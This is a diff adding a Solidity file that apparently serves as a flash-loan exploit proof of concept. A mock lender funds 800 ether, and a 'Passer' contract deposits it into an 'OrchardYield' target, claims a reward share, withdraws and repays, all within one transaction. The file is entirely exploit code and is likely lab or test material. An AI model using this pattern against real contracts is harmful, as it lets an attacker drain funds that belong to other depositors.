@@ -1,0 +1,44 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+import "./contract.sol";
+
+interface IBorrower {
+    function lent(uint256 amount) external payable;
+}
+
+contract Lender {
+    constructor() payable {}
+
+    function lend(uint256 amount) external {
+        uint256 before = address(this).balance;
+        IBorrower(msg.sender).lent{value: amount}(amount);
+        require(address(this).balance >= before, "not paid back");
+    }
+
+    receive() external payable {}
+}
+
+contract Passer is IBorrower {
+    OrchardYield private immutable orchard;
+    Lender private immutable lender;
+
+    constructor(OrchardYield target, Lender from) {
+        orchard = target;
+        lender = from;
+    }
+
+    function run() external {
+        lender.lend(800 ether);
+    }
+
+    function lent(uint256 amount) external payable {
+        orchard.keep{value: amount}();
+        orchard.share();
+        orchard.leave();
+        (bool paid, ) = address(lender).call{value: amount}("");
+        require(paid);
+    }
+
+    receive() external payable {}
+}
